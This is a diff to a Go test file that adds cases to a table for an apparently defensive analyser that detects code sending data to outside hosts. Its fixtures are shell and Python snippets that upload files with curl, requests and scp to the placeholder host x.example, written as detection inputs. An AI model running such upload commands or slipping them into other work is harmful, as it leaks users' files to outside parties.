@@ -172,6 +172,8 @@ func TestSends(t *testing.T) {
 		"by a default":     {[]Text{text("a.sh", "at=\"${AT:-https://x.example/in}\"\ncurl -s \"$at\" -F \"f=@$1\"\n")}, "x.example:2 body carries"},
 		"of another file":  {[]Text{text("at.py", "AT = 'https://x.example/in'\n"), text("a.py", "import requests\nfrom at import AT\nrequests.put(AT, data=b'1')\n")}, "x.example:3 body carries"},
 		"to who is asked":  {[]Text{text("a.py", "import sys, requests\nrequests.post(sys.argv[1], data=b'1')\n")}, ""},
+		"a clustered flag": {[]Text{text("a.sh", "curl -sT out.csv https://x.example/in\n")}, "x.example:1 body carries"},
+		"fails on errors":  {[]Text{text("a.sh", "curl -LsSf https://x.example/in\n")}, "x.example:1 body"},
 		"a copy of a file": {[]Text{text("a.sh", "scp out.csv me@x.example:/in\n")}, "x.example:1 file carries"},
 		"nothing is sent":  {[]Text{text("a.py", "print('https://x.example/in')\n")}, ""},
 		"each place once":  {[]Text{text("a.py", "import b\nimport requests\nrequests.post('https://x.example/in', data=b'1')\n"), text("b.py", "import a\n")}, "x.example:3 body carries"},
